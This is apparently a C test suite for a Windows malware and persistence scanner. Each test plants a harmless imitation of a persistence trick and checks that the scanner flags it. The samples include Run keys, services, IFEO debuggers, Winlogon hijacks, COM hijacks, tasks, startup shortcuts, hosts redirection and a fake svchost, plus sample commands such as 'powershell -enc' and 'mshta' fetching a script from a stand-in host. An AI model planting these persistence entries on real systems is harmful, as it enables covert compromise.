/* SPDX-License-Identifier: Apache-2.0 */
/* Each trick is imitated without harm, found, and taken away again. A clean system has no
 * finding. */
#include "base/cleanup.h"
#include "base/file.h"
#include "base/require.h"
#include "base/tap.h"
#include "base/windows/wide.h"
#include "scan/checks/checks.h"
#include "tests/scan/shell_link_file.h"

#include <winsock2.h>
/* winsock2.h comes first. */
#include <windows.h>

#define CURRENT "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\"
#define CURRENT_NT "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\"
#define CONTROL "SYSTEM\\CurrentControlSet\\Control\\"

enum { TEXT = 512, MOST = 64 };

struct seen {
    struct {
        char id[32], reason[64], subject[TEXT], detail[TEXT], ends[2 * TEXT];
        enum finding_level level;
        uint32_t pid;
        size_t line;
        bool has_file;
    } findings[MOST];
    size_t count, starts, unseen;
    char started[TEXT], by[3 * TEXT]; /* the last one, and what starts it */
    struct sha256 as_seen;            /* of what starts it */
    bool is_shared;                   /* a task */
    const char *listed;
};
static struct seen seen;

static void
take_finding(void *context, const struct finding *finding)
{
    (void)context;
    if (seen.count == MOST)
        return;
    size_t i = seen.count++;
    snprintf(seen.findings[i].id, sizeof seen.findings[i].id, "%s", finding->check->id);
    snprintf(seen.findings[i].reason, sizeof seen.findings[i].reason, "%s",
             finding->reason ? finding->reason->id : "");
    snprintf(seen.findings[i].subject, TEXT, "%s", finding->subject);
    snprintf(seen.findings[i].detail, TEXT, "%s", finding->detail);
    seen.findings[i].level = finding->level;
    seen.findings[i].pid = finding->pid;
    seen.findings[i].line = finding->line;
    seen.findings[i].has_file = finding->file != NULL;
    if (finding->value)
        snprintf(seen.findings[i].ends, sizeof seen.findings[i].ends, "%s\\%s %s",
                 finding->value->key, finding->value->name,
                 finding->value->instead ? finding->value->instead : "goes");
}

static void
take_start(void *context, const struct check_start *start)
{
    (void)context;
    seen.starts++;
    /* Windows' own starts stand beside. */
    if (seen.starts > 1 && str_contains_nocase(str_of(seen.started), STR("khien-starts")))
        return;
    snprintf(seen.started, sizeof seen.started, "%s", start->path);
    snprintf(seen.by, sizeof seen.by, "%s%s",
             start->file   ? "file "
             : start->task ? "task "
                           : "",
             start->file   ? start->file
             : start->task ? start->task->name
                           : "");
    if (start->task)
        seen.is_shared = start->task->is_shared;
    if (start->task)
        seen.as_seen = start->task->actions;
    if (start->value)
        seen.as_seen = start->value->sha256;
    if (start->value)
        snprintf(seen.by, sizeof seen.by, "%s\\%s %u %s%s", start->value->key, start->value->name,
                 (unsigned)start->value->type, start->value->instead ? start->value->instead : "-",
                 start->value->is_shared ? " shared" : "");
}

static void
take_unseen(void *context, const struct check *check, const char *what, const struct err *why)
{
    (void)context;
    (void)check;
    (void)what;
    (void)why;
    seen.unseen++;
}

static bool
take_address(void *context, const char *address, char *ret_name)
{
    (void)context;
    snprintf(ret_name, 256, "Mirai");
    return seen.listed && strcmp(address, seen.listed) == 0;
}

/* All checks when ID is NULL. */
static void
look(const char *id, const char *root, const char *listed)
{
    struct checking checking = {
        .root = root,
        .is_listed = take_address,
        .found = take_finding,
        .starts = take_start,
        .unseen = take_unseen,
    };
    memset(&seen, 0, sizeof seen);
    seen.listed = listed;
    if (!id) {
        checks_run(&checking);
        return;
    }
    const struct check *check = check_find(str_of(id));
    require(check);
    check->run(&checking, check);
    checks_end(&checking);
}

static void
note_findings(void)
{
    for (size_t i = 0; i < seen.count; i++)
        tap_note("%s %d %s: %s [%s]", seen.findings[i].id, seen.findings[i].level,
                 seen.findings[i].subject, seen.findings[i].detail, seen.findings[i].reason);
}

/* Exactly one finding, of this level, whose subject ends so. */
static void
expect(const char *what, enum finding_level level, const char *subject)
{
    bool passed = seen.count == 1 && seen.findings[0].level == level &&
                  str_ends(str_of(seen.findings[0].subject), str_of(subject));
    if (!tap_ok(passed, "%s: %s", what, subject))
        note_findings();
}

struct registry_case {
    const char *id;
    bool is_machine;
    const char *key, *name, *text;
    DWORD kind;
    enum finding_level level;
};
static const struct registry_case registry_cases[] = {
    {"run-keys", false, CURRENT "Run", "khien1", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", REG_SZ,
     FINDING_SUSPICIOUS},
    {"run-keys", true, CURRENT "RunOnce", "khien2", "%APPDATA%\\khien.exe", REG_EXPAND_SZ,
     FINDING_SUSPICIOUS},
    {"run-keys", true, "SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run", "khien3",
     "mshta http://x.invalid/a.hta", REG_SZ, FINDING_SUSPICIOUS},
    {"run-keys", true, CURRENT "RunOnceEx\\khien", "1", "C:\\Windows\\Temp\\khien.exe", REG_SZ,
     FINDING_SUSPICIOUS},
    {"run-keys", false, CURRENT "Policies\\Explorer\\Run", "khien4", "C:\\x\\khien.exe", REG_SZ,
     FINDING_LOOK},
    {"services", true, "SYSTEM\\CurrentControlSet\\Services\\khien-test", "ImagePath",
     "C:\\Users\\Public\\a\\khien.exe", REG_EXPAND_SZ, FINDING_SUSPICIOUS},
    {"services", true, "SYSTEM\\CurrentControlSet\\Services\\khien-test\\Parameters", "ServiceDll",
     "C:\\ProgramData\\khien\\a.dll", REG_EXPAND_SZ, FINDING_LOOK},
    {"ifeo", true, CURRENT_NT "Image File Execution Options\\khien.exe", "Debugger",
     "C:\\x\\khien.exe", REG_SZ, FINDING_SUSPICIOUS},
    {"ifeo", true, CURRENT_NT "SilentProcessExit\\khien.exe", "MonitorProcess", "C:\\x\\khien.exe",
     REG_SZ, FINDING_SUSPICIOUS},
    {"winlogon", false, CURRENT_NT "Winlogon", "Shell", "explorer.exe, C:\\x\\khien.exe", REG_SZ,
     FINDING_SUSPICIOUS},
    {"winlogon", true, CURRENT_NT "Winlogon", "Userinit",
     "C:\\Windows\\system32\\userinit.exe,C:\\x\\khien.exe,", REG_SZ, FINDING_SUSPICIOUS},
    {"winlogon", true, CURRENT_NT "Winlogon\\Notify\\khien", "DLLName", "khien.dll", REG_SZ,
     FINDING_LOOK},
    {"winlogon", false, "Environment", "UserInitMprLogonScript", "C:\\x\\khien.bat", REG_SZ,
     FINDING_SUSPICIOUS},
    {"winlogon", false, "Control Panel\\Desktop", "SCRNSAVE.EXE", "C:\\x\\khien.scr", REG_SZ,
     FINDING_LOOK},
    {"appinit", true, CURRENT_NT "Windows", "AppInit_DLLs", "C:\\x\\khien.dll", REG_SZ,
     FINDING_LOOK},
    {"appinit", true, CONTROL "Session Manager\\AppCertDlls", "khien", "C:\\x\\khien.dll", REG_SZ,
     FINDING_SUSPICIOUS},
    {"lsa", true, CONTROL "Lsa\\OSConfig", "Security Packages", "kerberos\0khien\0", REG_MULTI_SZ,
     FINDING_SUSPICIOUS},
    {"hosts", true, "SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters", "DataBasePath",
     "C:\\x", REG_EXPAND_SZ, FINDING_SUSPICIOUS},
    {"proxy", false, CURRENT "Internet Settings", "AutoConfigURL", "file:///C:/x/khien.pac", REG_SZ,
     FINDING_SUSPICIOUS},
    {"extensions", true, "SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist", "1",
     "abc;http://x.invalid/crx", REG_SZ, FINDING_SUSPICIOUS},
    {"extensions", false, "SOFTWARE\\Policies\\Microsoft\\Edge\\ExtensionInstallForcelist", "1",
     "abc;https://edge.microsoft.com/extensionwebstorebase/v1/crx", REG_SZ, FINDING_LOOK},
    {"com", false, "Software\\Classes\\CLSID\\{00000000-0000-0000-0000-00006b686965}\\ScriptletURL",
     "", "http://x.invalid/a.sct", REG_SZ, FINDING_SUSPICIOUS},
    {"com", false,
     "Software\\Classes\\CLSID\\{00021401-0000-0000-C000-000000000046}\\InprocServer32", "",
     "C:\\Users\\lan\\AppData\\Local\\khien\\a.dll", REG_SZ, FINDING_SUSPICIOUS},
    {"com", false,
     "Software\\Classes\\CLSID\\{00000000-0000-0000-0000-00006b686965}\\InprocServer32", "",
     "C:\\Users\\Public\\khien.dll", REG_SZ, FINDING_SUSPICIOUS},
};

/* The key above, when the case made it too. */
static void
remove_own_above(HKEY root, wchar_t *path)
{
    wchar_t *end = wcsrchr(path, L'\\');
    if (!end)
        return;
    *end = 0;
    const wchar_t *name = wcsrchr(path, L'\\');
    if (name && (name[1] == L'{' || wcsstr(name, L"khien")))
        RegDeleteKeyExW(root, path, KEY_WOW64_64KEY, 0); /* only an empty one */
}

/* As it was before: its old value, or none; a key that the case made goes with it. */
static void
test_registry_case(const struct registry_case *one)
{
    cleanup(cleanup_free) wchar_t *path = wide_text(one->key), *name = wide_text(one->name);
    HKEY root = one->is_machine ? HKEY_LOCAL_MACHINE : HKEY_CURRENT_USER, key;
    wchar_t text[TEXT] = L"";
    BYTE old[4 * TEXT];
    DWORD made, old_size = sizeof old, old_kind;
    size_t n = one->kind == REG_MULTI_SZ ? 16 : strlen(one->text) + 1;
    for (size_t i = 0; i < n; i++)
        text[i] = (unsigned char)one->text[i];
    if (!tap_ok(RegCreateKeyExW(root, path, 0, NULL, 0, KEY_ALL_ACCESS | KEY_WOW64_64KEY, NULL,
                                &key, &made) == ERROR_SUCCESS,
                "the key %s is there", one->key))
        return;
    bool was_set = RegQueryValueExW(key, name, NULL, &old_kind, old, &old_size) == ERROR_SUCCESS;
    RegSetValueExW(key, name, 0, one->kind, (BYTE *)text, (DWORD)(n * sizeof *text));
    look(one->id, "", NULL);
    char subject[TEXT];
    snprintf(subject, sizeof subject, "%s\\%s", one->key, one->name);
    expect(one->id, one->level, subject);
    if (was_set)
        RegSetValueExW(key, name, 0, old_kind, old, old_size);
    else
        RegDeleteValueW(key, name);
    RegCloseKey(key);
    if (made == REG_CREATED_NEW_KEY) {
        RegDeleteKeyExW(root, path, KEY_WOW64_64KEY, 0);
        remove_own_above(root, path);
    }
    look(one->id, "", NULL);
    if (!tap_eq_i64(seen.count, 0, "and no more when it is gone"))
        note_findings();
}

/* A text and a number beside it, without which the text has no effect or a lesser one. */
static void
test_pair(const struct registry_case *one, const char *name, DWORD number)
{
    cleanup(cleanup_free) wchar_t *path = wide_text(one->key), *wide = wide_text(name);
    HKEY root = one->is_machine ? HKEY_LOCAL_MACHINE : HKEY_CURRENT_USER, key;
    DWORD made, old, size = sizeof old;
    if (RegCreateKeyExW(root, path, 0, NULL, 0, KEY_ALL_ACCESS | KEY_WOW64_64KEY, NULL, &key,
                        &made) != ERROR_SUCCESS) {
        tap_ok(false, "the key %s is there", one->key);
        return;
    }
    bool was_set = RegQueryValueExW(key, wide, NULL, NULL, (BYTE *)&old, &size) == ERROR_SUCCESS;
    RegSetValueExW(key, wide, 0, REG_DWORD, (const BYTE *)&number, sizeof number);
    test_registry_case(one);
    if (was_set)
        RegSetValueExW(key, wide, 0, REG_DWORD, (const BYTE *)&old, sizeof old);
    else
        RegDeleteValueW(key, wide);
    RegCloseKey(key);
    if (made == REG_CREATED_NEW_KEY)
        RegDeleteKeyExW(root, path, KEY_WOW64_64KEY, 0);
}

static void
test_pairs(void)
{
    static const struct {
        struct registry_case text;
        const char *name;
        DWORD number;
    } pairs[] = {
        {{"services", true, "SYSTEM\\CurrentControlSet\\Services\\khien-test", "ImagePath",
          "C:\\Program Files\\khien test\\a.exe -x", REG_EXPAND_SZ, FINDING_LOOK},
         "Type",
         0x10},
        {{"appinit", true, CURRENT_NT "Windows", "AppInit_DLLs", "C:\\x\\khien.dll", REG_SZ,
          FINDING_SUSPICIOUS},
         "LoadAppInit_DLLs",
         1},
        {{"proxy", false, CURRENT "Internet Settings", "ProxyServer", "http=127.0.0.1:8080", REG_SZ,
          FINDING_LOOK},
         "ProxyEnable",
         1},
    };
    for (size_t i = 0; i < sizeof pairs / sizeof *pairs; i++)
        test_pair(&pairs[i].text, pairs[i].name, pairs[i].number);
}

/* Servers that are known to be malware's are taken away; what only looks so is left to a person. */
static void
test_end(const char *id, HKEY root, const char *below, const char *name, const char *text,
         const char *want)
{
    static const char address[] = "203.0.113.9";
    cleanup(cleanup_free) wchar_t *path = wide_text(below), *wide_name = wide_text(name),
                                  *wide = wide_text(text);
    const DWORD one = 1;
    HKEY key;
    DWORD made, old, size = sizeof old;
    require(RegCreateKeyExW(root, path, 0, NULL, 0, KEY_ALL_ACCESS | KEY_WOW64_64KEY, NULL, &key,
                            &made) == ERROR_SUCCESS);
    RegSetValueExW(key, wide_name, 0, REG_SZ, (const BYTE *)wide,
                   (DWORD)((wcslen(wide) + 1) * sizeof *wide));
    bool was_set =
        RegQueryValueExW(key, L"ProxyEnable", NULL, NULL, (BYTE *)&old, &size) == ERROR_SUCCESS;
    RegSetValueExW(key, L"ProxyEnable", 0, REG_DWORD, (const BYTE *)&one, sizeof one);
    look(id, "", NULL);
    expect("not known", seen.findings[0].level, name);
    tap_eq_z(seen.findings[0].ends, "", "%s %s stays", id, text);
    look(id, "", address);
    expect("known", FINDING_MALICIOUS, name);
    tap_ok(want[0] ? str_ends(str_of(seen.findings[0].ends), str_of(want))
                   : !seen.findings[0].ends[0],
           "%s: what ends it: %s", id, seen.findings[0].ends);
    RegDeleteValueW(key, wide_name);
    if (was_set)
        RegSetValueExW(key, L"ProxyEnable", 0, REG_DWORD, (const BYTE *)&old, sizeof old);
    else
        RegDeleteValueW(key, L"ProxyEnable");
    RegCloseKey(key);
    if (made == REG_CREATED_NEW_KEY) {
        RegDeleteKeyExW(root, path, KEY_WOW64_64KEY, 0);
        remove_own_above(root, path);
    }
}

static void
test_ends(void)
{
    test_end("proxy", HKEY_CURRENT_USER, CURRENT "Internet Settings", "ProxyServer",
             "http=203.0.113.9:8080", "Internet Settings\\ProxyEnable 0");
    test_end("proxy", HKEY_CURRENT_USER, CURRENT "Internet Settings", "AutoConfigURL",
             "http://203.0.113.9/a.pac", "Internet Settings\\AutoConfigURL goes");
    test_end("extensions", HKEY_LOCAL_MACHINE,
             "SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist", "1",
             "abc;http://203.0.113.9/crx", "Chrome\\ExtensionInstallForcelist\\1 goes");
}

/* Windows tries C:\Program.exe first where a service's path has no quotes. */
static void
test_slipped_in(void)
{
    static const wchar_t program[] = L"C:\\khien.exe",
                         path[] = L"SYSTEM\\CurrentControlSet\\Services\\khien-test",
                         image[] = L"C:\\khien test\\a.exe";
    DWORD kind = 0x10;
    HKEY key, made = NULL;
    HANDLE file = CreateFileW(program, GENERIC_WRITE, 0, NULL, CREATE_NEW, 0, NULL);
    tap_ok(file != INVALID_HANDLE_VALUE, "a program stands in the way");
    CloseHandle(file);
    if (RegCreateKeyExW(HKEY_LOCAL_MACHINE, path, 0, NULL, 0, KEY_ALL_ACCESS, NULL, &key, NULL) ==
        ERROR_SUCCESS)
        made = key;
    RegSetValueExW(made, L"Type", 0, REG_DWORD, (const BYTE *)&kind, sizeof kind);
    RegSetValueExW(made, L"ImagePath", 0, REG_SZ, (const BYTE *)image, sizeof image);
    look("services", "", NULL);
    expect("a service", FINDING_SUSPICIOUS, "khien-test\\ImagePath");
    tap_eq_z(seen.count ? seen.findings[0].reason : "", "slipped-in", "with what slipped in");
    RegCloseKey(made);
    RegDeleteKeyExW(HKEY_LOCAL_MACHINE, path, KEY_WOW64_64KEY, 0);
    DeleteFileW(program);
}

/* What a scan needs to keep each from starting again. */
static void
test_start_case(const char *id, bool is_machine, const char *below, const char *name,
                const char *text, const char *want)
{
    cleanup(cleanup_free) wchar_t *path = wide_text(below), *wide_name = wide_text(name),
                                  *wide = wide_text(text);
    HKEY root = is_machine ? HKEY_LOCAL_MACHINE : HKEY_CURRENT_USER, key;
    BYTE old[4 * TEXT];
    DWORD made, kind, size = sizeof old, n = (DWORD)((wcslen(wide) + 1) * sizeof *wide);
    require(RegCreateKeyExW(root, path, 0, NULL, 0, KEY_ALL_ACCESS | KEY_WOW64_64KEY, NULL, &key,
                            &made) == ERROR_SUCCESS);
    bool was_set = RegQueryValueExW(key, wide_name, NULL, &kind, old, &size) == ERROR_SUCCESS;
    RegSetValueExW(key, wide_name, 0, REG_SZ, (const BYTE *)wide, n);
    look(id, "", NULL);
    bool is_it = str_starts(str_of(seen.by), is_machine ? STR("HKLM\\") : STR("HKU\\S-1-5-")) &&
                 str_contains_nocase(str_of(seen.by), str_of(want));
    tap_ok(is_it, "%s: %s starts by %s", id, seen.started, seen.by);
    struct sha256 data = sha256_of((str){(const char *)wide, n});
    bool is_same = memcmp(&data, &seen.as_seen, sizeof data) == 0;
    tap_eq_i64(is_same, strcmp(id, "services") != 0, "which is as it was seen");
    if (was_set)
        RegSetValueExW(key, wide_name, 0, kind, old, size);
    else
        RegDeleteValueW(key, wide_name);
    RegCloseKey(key);
    if (made == REG_CREATED_NEW_KEY)
        RegDeleteKeyExW(root, path, KEY_WOW64_64KEY, 0);
}

static void
test_what_starts(void)
{
    static const wchar_t program[] = L"C:\\khien-starts.exe",
                         path[] = L"SYSTEM\\CurrentControlSet\\Services\\khien-starts";
    static const char service[] = "SYSTEM\\CurrentControlSet\\Services\\khien-starts";
    DWORD start = 2;
    HKEY key = NULL;
    HANDLE file = CreateFileW(program, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    CloseHandle(file);
    test_start_case("run-keys", false, CURRENT "Run", "khien", "C:\\khien-starts.exe -x",
                    "CurrentVersion\\Run\\khien 1 -");
    test_start_case("run-keys", false, CURRENT_NT "Windows", "Load",
                    "C:\\khien-starts.exe,C:\\other.exe", "\\Load 1 - shared");
    test_start_case("winlogon", true, CURRENT_NT "Winlogon", "Userinit",
                    "C:\\windows\\system32\\userinit.exe,C:\\khien-starts.exe",
                    "\\Userinit 1 C:\\windows\\system32\\userinit.exe,");
    test_start_case("winlogon", true, CURRENT_NT "Winlogon", "Userinit",
                    "userinit.exe,C:\\corp\\logon.exe,C:\\khien-starts.exe",
                    "\\Userinit 1 C:\\windows\\system32\\userinit.exe, shared");
    test_start_case("winlogon", true, CURRENT_NT "Winlogon", "Shell", "C:\\khien-starts.exe",
                    "\\Shell 1 explorer.exe");
    test_start_case("winlogon", false, CURRENT_NT "Winlogon", "Shell",
                    "explorer.exe,C:\\khien-starts.exe", "\\Shell 1 -");
    test_start_case("appinit", true, CURRENT_NT "Windows", "AppInit_DLLs", "C:\\khien-starts.exe",
                    "\\AppInit_DLLs 1 -");
    test_start_case("appinit", true, CURRENT_NT "Windows", "AppInit_DLLs",
                    "C:\\khien-starts.exe C:\\b.dll", "\\AppInit_DLLs 1 - shared");
    test_start_case("ifeo", true, CURRENT_NT "Image File Execution Options\\khien.exe", "Debugger",
                    "C:\\khien-starts.exe", "\\Debugger 1 -");
    test_start_case("lsa", true, CONTROL "Lsa\\OSConfig", "Security Packages",
                    "C:\\khien-starts.exe", "\\Security Packages 1 - shared");
    require(RegCreateKeyExW(HKEY_LOCAL_MACHINE, path, 0, NULL, 0, KEY_ALL_ACCESS, NULL, &key,
                            NULL) == ERROR_SUCCESS);
    RegSetValueExW(key, L"Start", 0, REG_DWORD, (const BYTE *)&start, sizeof start);
    test_start_case("services", true, service, "ImagePath", "C:\\khien-starts.exe",
                    "\\khien-starts\\Start 4 4");
    test_start_case("services", true,
                    "SYSTEM\\CurrentControlSet\\Services\\khien-starts\\Parameters", "ServiceDll",
                    "C:\\khien-starts.exe", "\\khien-starts\\Start 4 4 shared");
    RegCloseKey(key);
    RegDeleteKeyExW(HKEY_LOCAL_MACHINE, path, KEY_WOW64_64KEY, 0);
    DeleteFileW(program);
}

static void
write_file(const char *root, const char *below, str content)
{
    char path[PATH_TEXT], folder[PATH_TEXT];
    struct err err;
    snprintf(path, sizeof path, "%s\\%s", root, below);
    snprintf(folder, sizeof folder, "%.*s", (int)(path_base(path) - path - 1), path);
    if (folder_make(folder, &err) != OK || file_replace(path, content, &err) != OK)
        tap_ok(false, "%s", err.text);
}

#define MENU "Users\\lan\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\"

static void
test_folders(void)
{
    const char *root = tap_folder("root");
    struct buf link = BUF(1 << 16);
    write_file(root, "Windows\\explorer.exe", STR("MZ"));
    write_file(root, "Users\\lan\\a.txt", STR("x"));
    look(NULL, root, NULL);
    tap_eq_i64(seen.count, 0, "a folder with nothing in it has no finding");
    tap_ok(seen.unseen > 0, "but the registry is unseen");

    write_file(root, "Windows\\System32\\Tasks\\a\\Khien",
               STR("<Task><Actions><Exec><Command>C:\\Users\\Public\\a.exe</Command></Exec>"
                   "</Actions></Task>"));
    write_file(root, "Users\\Public\\a.exe", STR("MZ"));
    look("tasks", root, NULL);
    expect("a task", FINDING_SUSPICIOUS, "Tasks\\a\\Khien");
    tap_ok(str_ends(str_of(seen.started), STR("Users\\Public\\a.exe")), "its program is told of");
    tap_eq_z(seen.by, "task \\a\\Khien", "and the task, as its service calls it");
    tap_ok(!seen.is_shared, "which does nothing else");
    static const str actions = {"C:\\Users\\Public\\a.exe\0\0\0", 25};
    struct sha256 want = sha256_of(actions);
    tap_ok(memcmp(&seen.as_seen, &want, sizeof want) == 0, "with the digest of what it does");
    write_file(root, "Windows\\System32\\Tasks\\a\\Khien",
               STR("<Task><Actions><Exec><Command>C:\\Users\\Public\\a.exe</Command></Exec>"
                   "<ComHandler><ClassId>{1}</ClassId></ComHandler></Actions></Task>"));
    look("tasks", root, NULL);
    tap_ok(seen.is_shared, "one of several actions is told of as such");

    link_write(&link, "C:\\Windows\\System32\\wscript.exe", "C:\\Users\\Public\\b.vbs");
    write_file(root, MENU "Startup\\b.lnk", buf_view(&link));
    write_file(root, "Users\\Public\\b.vbs", STR("x"));
    look("startup", root, NULL);
    expect("a shortcut at startup", FINDING_SUSPICIOUS, "Startup\\b.lnk");
    tap_ok(str_ends(str_of(seen.started), STR("b.vbs")), "its script is told of");
    tap_ok(str_ends(str_of(seen.by), STR("Startup\\b.lnk")), "and the shortcut: %s", seen.by);

    buf_reset(&link);
    link_write(&link, "C:\\Program Files\\Chrome\\chrome.exe", "http://ads.invalid/");
    write_file(root, "Users\\lan\\Desktop\\Chrome.lnk", buf_view(&link));
    write_file(root, MENU "Startup\\b.lnk", STR("no link"));
    look("shortcuts", root, NULL);
    expect("a browser's shortcut", FINDING_SUSPICIOUS, "Desktop\\Chrome.lnk");
    look("startup", root, NULL);
    tap_ok(seen.count == 0 && seen.unseen == 1, "a broken shortcut is unseen");

    buf_reset(&link);
    link_write(&link, "C:\\Windows\\System32\\cmd.exe", "/c start x");
    write_file(root, "USB.lnk", buf_view(&link));
    write_file(root, "Users\\lan\\Desktop\\Chrome.lnk", STR("x"));
    look("shortcuts", root, NULL);
    expect("a worm's shortcut", FINDING_SUSPICIOUS, "USB.lnk");

    write_file(root, "USB.lnk", STR("x"));
    write_file(root, "autorun.inf", STR("[AutoRun]\r\nopen=khien.exe\r\n"));
    look("shortcuts", root, NULL);
    expect("a drive that starts a program", FINDING_LOOK, "autorun.inf");

    write_file(root, MENU "Startup\\b.lnk", STR("x"));
    write_file(root, MENU "Startup\\hoa don.pdf.exe", STR("MZ"));
    look("startup", root, NULL);
    expect("a program that looks like a document", FINDING_SUSPICIOUS, "hoa don.pdf.exe");
    tap_eq_z(seen.findings[0].reason, "double-ending", "for its endings");
    tap_ok(seen.findings[0].has_file, "and it can be put away");

    write_file(root, "Windows\\System32\\wbem\\Repository\\OBJECTS.DATA",
               STR("x\0CommandLineEventConsumer\0\0C:\\x\\khien.exe\0\0Up\0\0"
                   "y\0CommandLineEventConsumer.Name=\"Up\"\0"));
    look("wmi", root, NULL);
    expect("a consumer of WMI", FINDING_SUSPICIOUS, "CommandLineEventConsumer \"Up\"");
    tap_eq_z(seen.findings[0].detail, "C:\\x\\khien.exe", "its command");
    buf_clear(&link);
}

static void
test_hosts(void)
{
    const char *root = tap_folder("hosts");
    const char *path = "Windows\\System32\\drivers\\etc\\hosts";
    write_file(root, path, STR("127.0.0.1 localhost\n0.0.0.0 ads.example.com google.com\n"));
    look("hosts", root, NULL);
    tap_eq_i64(seen.count, 0, "hosts: what blocks advertisements is fine");
    write_file(root, path, STR("# x\n0.0.0.0 update.eset.com\n"));
    look("hosts", root, NULL);
    expect("an antivirus that is blocked", FINDING_SUSPICIOUS, "update.eset.com");
    tap_eq_i64(seen.findings[0].line, 2, "on its line");
    write_file(root, path, STR("8.8.8.8 www.vietcombank.com.vn\n"));
    look("hosts", root, NULL);
    expect("a bank elsewhere", FINDING_SUSPICIOUS, "www.vietcombank.com.vn");
    look("hosts", root, "8.8.8.8");
    expect("on a known server", FINDING_MALICIOUS, "www.vietcombank.com.vn");
}

/* This program, copied to where none should be. */
static void
test_process(const char *self)
{
    wchar_t folder[MAX_PATH], program[MAX_PATH + 16];
    cleanup(cleanup_free) wchar_t *own = wide_path(self);
    GetTempPathW(MAX_PATH, folder);
    _snwprintf(program, MAX_PATH + 16, L"%lssvchost.exe", folder);
    STARTUPINFOW start = {.cb = sizeof start};
    PROCESS_INFORMATION process;
    wchar_t line[] = L"svchost.exe --wait";
    if (!own || !CopyFileW(own, program, FALSE) ||
        !CreateProcessW(program, line, NULL, NULL, FALSE, 0, NULL, NULL, &start, &process)) {
        tap_ok(false, "a program starts in the folder for temporary files");
        return;
    }
    look("processes", "", NULL);
    expect("a false svchost.exe", FINDING_SUSPICIOUS, "(svchost.exe)");
    tap_eq_i64(seen.findings[0].pid, process.dwProcessId, "its number");
    TerminateProcess(process.hProcess, 0);
    WaitForSingleObject(process.hProcess, 5000);
    CloseHandle(process.hProcess);
    CloseHandle(process.hThread);
    for (int i = 0; i < 50 && !DeleteFileW(program); i++)
        Sleep(100);
    look("processes", "", NULL);
    if (!tap_eq_i64(seen.count, 0, "none when it has ended"))
        note_findings();
}

static void
test_connection(void)
{
    enum { OWN = 0x7f4d0000 }; /* 127.77.0.0: other programs have connections to 127.0.0.1 */
    WSADATA data;
    char text[16], subject[64];
    struct sockaddr_in address = {.sin_family = AF_INET,
                                  .sin_addr.s_addr = htonl(OWN | (GetCurrentProcessId() & 0xffff))};
    int size = sizeof address;
    WSAStartup(MAKEWORD(2, 2), &data);
    SOCKET server = socket(AF_INET, SOCK_STREAM, 0), client = socket(AF_INET, SOCK_STREAM, 0);
    bool connected = bind(server, (struct sockaddr *)&address, sizeof address) == 0 &&
                     listen(server, 1) == 0 &&
                     getsockname(server, (struct sockaddr *)&address, &size) == 0 &&
                     connect(client, (struct sockaddr *)&address, sizeof address) == 0;
    tap_ok(connected, "a connection is made");
    /* wine does not know whose it is. */
    bool own = false;
    uint32_t number = ntohl(address.sin_addr.s_addr);
    snprintf(text, sizeof text, "127.77.%u.%u", number >> 8 & 0xff, number & 0xff);
    snprintf(subject, sizeof subject, "%s:%d", text, ntohs(address.sin_port));
    look("connections", "", text);
    for (size_t i = 0; i < seen.count; i++)
        own = own || (seen.findings[i].level == FINDING_MALICIOUS &&
                      strcmp(seen.findings[i].subject, subject) == 0);
    if (!tap_ok(own, "and found"))
        note_findings();
    closesocket(client);
    closesocket(server);
    look("connections", "", NULL);
    tap_eq_i64(seen.count, 0, "none to servers that are not listed");
}

static bool
has_words(const struct check_words *words)
{
    return words->title[0] && words->meaning[0] && words->advice[0] &&
           str_is_shown(str_of(words->title)) && str_is_shown(str_of(words->meaning)) &&
           str_is_shown(str_of(words->advice));
}

static void
test_words(void)
{
    for (const struct check *const *check = checks; *check; check++)
        tap_ok(check_find(str_of((*check)->id)) == *check && (*check)->attack[0] == 'T' &&
                   has_words(&(*check)->vi) && has_words(&(*check)->en),
               "%s has an id of its own, a technique and its words", (*check)->id);
}

int
main(int argc, char **argv)
{
    if (argc > 1) {
        Sleep(30000);
        return 0;
    }
    test_words();
    look(NULL, "", NULL);
    tap_ok(seen.starts > 0, "some programs start by themselves");
    if (!tap_eq_i64(seen.count, 0, "a clean system has no finding"))
        note_findings();
    for (size_t i = 0; i < sizeof registry_cases / sizeof *registry_cases; i++)
        test_registry_case(&registry_cases[i]);
    test_pairs();
    test_ends();
    test_slipped_in();
    test_what_starts();
    test_folders();
    test_hosts();
    test_process(argv[0]);
    test_connection();
    look(NULL, "", NULL);
    tap_eq_i64(seen.count, 0, "the system is as clean as before");
    return tap_done();
}
